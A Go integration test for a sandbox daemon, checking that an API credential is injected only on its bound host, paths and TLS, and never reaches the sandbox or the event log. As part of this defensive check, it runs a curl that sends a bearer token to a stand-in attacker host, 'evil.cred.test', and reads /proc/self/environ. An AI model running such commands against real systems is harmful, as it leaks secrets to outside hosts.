package daemon

import (
	"context"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	apiv1 "github.com/paddock-sh/paddock/agentd/api/v1"
	"github.com/paddock-sh/paddock/internal/kerneltest"
	"github.com/paddock-sh/paddock/internal/netlab"
)

// TestCredentialNeverInSandbox: a sandbox with a credential bound to
// api.cred.test under /v1/ talks to the simulated internet with curl, which
// ignores every proxy variable (the hooks redirect it). The bound origin,
// the canary, gets the real secret only on its bound paths over TLS; the
// sandbox only ever reads the placeholder, even from an endpoint that
// echoes request headers; an unbound host, another path and plain HTTP
// get the placeholder; the reverse listener injects; no event holds the
// secret.
func TestCredentialNeverInSandbox(t *testing.T) {
	kerneltest.Privileged(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is not installed")
	}
	lab := netlab.New(t)
	api := lab.TLSOrigin("203.0.113.20", "api.cred.test")
	apiPlain := lab.HTTPOrigin("203.0.113.20:80")
	evil := lab.TLSOrigin("203.0.113.21", "evil.cred.test")
	lab.DNS().Add("api.cred.test", "A 203.0.113.20")
	lab.DNS().Add("evil.cred.test", "A 203.0.113.21")
	_, labCA := lab.CA()

	const secret = "sk-live-9f8e7d6c5b4a3210"
	secretFile := filepath.Join(t.TempDir(), "api-token")
	if err := os.WriteFile(secretFile, []byte(secret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	td := startDaemon(t, t.TempDir(), kerneltest.PinDir(t), func(c *Config) {
		c.UpstreamCA = labCA
		c.Upstream = []netip.AddrPort{lab.DNS().Addr()}
	})
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	// A policy that lets the workload read the secret file is refused:
	// injection would protect nothing.
	_, err := apiv1.NewSandboxesClient(client(t, td.socket)).Create(ctx, &apiv1.CreateSandboxRequest{
		Policy: &apiv1.CreateSandboxRequest_Source{Source: &apiv1.PolicySource{Filename: "leaky.hcl", Hcl: []byte(`policy "leaky" {}

filesystem {
  read = ["` + filepath.Dir(secretFile) + `"]
}

network {
  allow = ["api.cred.test"]
}

credential "api" {
  hosts  = ["api.cred.test"]
  env    = "API_TOKEN"
  source = "file:` + secretFile + `"
}
`)}},
	})
	if status.Code(err) != codes.FailedPrecondition || !strings.Contains(err.Error(), "could read its secret file") {
		t.Errorf("a policy granting the secret file: %v", err)
	}
	sbx, err := apiv1.NewSandboxesClient(client(t, td.socket)).Create(ctx, &apiv1.CreateSandboxRequest{
		Policy: &apiv1.CreateSandboxRequest_Source{Source: &apiv1.PolicySource{Filename: "cred.hcl", Hcl: []byte(`policy "cred" {}

network {
  allow = ["api.cred.test", "api.cred.test:80", "evil.cred.test", "203.0.113.20", "203.0.113.21"]
}

credential "api" {
  hosts        = ["api.cred.test"]
  env          = "API_TOKEN"
  source       = "file:` + secretFile + `"
  paths        = ["/v1/"]
  base_url_env = "API_BASE_URL"
}
`)}},
	})
	if err != nil {
		t.Fatal(err)
	}
	base := sbx.GetBaseUrls()["API_BASE_URL"]
	if sbx.GetCaBundle() == "" || !strings.HasPrefix(base, "http://127.0.0.1:") {
		t.Fatalf("sandbox %v: no CA bundle or base URL", sbx)
	}
	cgdir := filepath.Join(td.d.cgroupRoot, sbx.Id)

	// run runs a shell command in the sandbox, with the environment
	// agentctl would give it.
	run := func(script string) string {
		t.Helper()
		cg, err := unix.Open(cgdir, unix.O_DIRECTORY|unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			t.Fatal(err)
		}
		defer unix.Close(cg)
		cmd := exec.Command("/bin/sh", "-c", script)
		cmd.Env = []string{"PATH=/usr/bin:/bin", "API_TOKEN=paddock:cred:api", "API_BASE_URL=" + base, "SSL_CERT_FILE=" + sbx.GetCaBundle(), "CURL_CA_BUNDLE=" + sbx.GetCaBundle()}
		cmd.SysProcAttr = &syscall.SysProcAttr{UseCgroupFD: true, CgroupFD: cg}
		out, _ := cmd.CombinedOutput()
		if strings.Contains(string(out), secret) {
			t.Errorf("the secret reached the sandbox: %s\n%s", script, out)
		}
		return string(out)
	}
	auth := `-H "Authorization: Bearer $API_TOKEN"`
	out := run(`curl -sS --max-time 10 ` + auth + ` https://api.cred.test/v1/echo; cat /proc/self/environ | tr '\0' '\n' | grep -c paddock:cred:api`)
	if !strings.Contains(out, "Authorization: Bearer paddock:cred:api") {
		t.Errorf("the echo should read back the placeholder:\n%s", out)
	}
	out += run(`curl -sS --max-time 10 ` + auth + ` https://api.cred.test/v2/echo`)
	out += run(`curl -sS --max-time 10 ` + auth + ` http://api.cred.test/v1/echo`)
	out += run(`curl -sS -k --max-time 10 ` + auth + ` https://evil.cred.test/v1/echo`)
	out += run(`curl -sS --max-time 10 -X POST -d x "$API_BASE_URL/v1/messages"`)

	carried := func(o *netlab.Origin) (with, without []string) {
		for _, h := range o.Hits() {
			if strings.Contains(h.Header.Get("Authorization"), secret) {
				with = append(with, h.Method+" "+h.Path)
			} else {
				without = append(without, h.Method+" "+h.Path)
			}
		}
		return with, without
	}
	with, without := carried(api)
	if fmt.Sprint(with) != "[GET /v1/echo POST /v1/messages]" {
		t.Errorf("the bound origin got the secret on %v (and not on %v), want the two /v1/ requests:\n%s", with, without, out)
	}
	if fmt.Sprint(without) != "[GET /v2/echo]" {
		t.Errorf("the bound origin got %v without the secret, want GET /v2/echo", without)
	}
	for name, o := range map[string]*netlab.Origin{"plain HTTP": apiPlain, "evil.cred.test": evil} {
		if w, wo := carried(o); len(w) > 0 || len(wo) != 1 {
			t.Errorf("%s: with the secret %v, without %v", name, w, wo)
		}
	}

	// The log names the injections and holds no secret.
	evs := readAll(t, apiv1.NewEventsClient(client(t, td.socket)), 0)
	injected := 0
	for _, e := range evs {
		if s := fmt.Sprint(e); strings.Contains(s, secret) {
			t.Errorf("an event holds the secret: %s", s)
		}
		if strings.Contains(e.Reason, "credential api injected") {
			injected++
		}
	}
	if injected != 2 {
		t.Errorf("%d injection events, want 2", injected)
	}
}
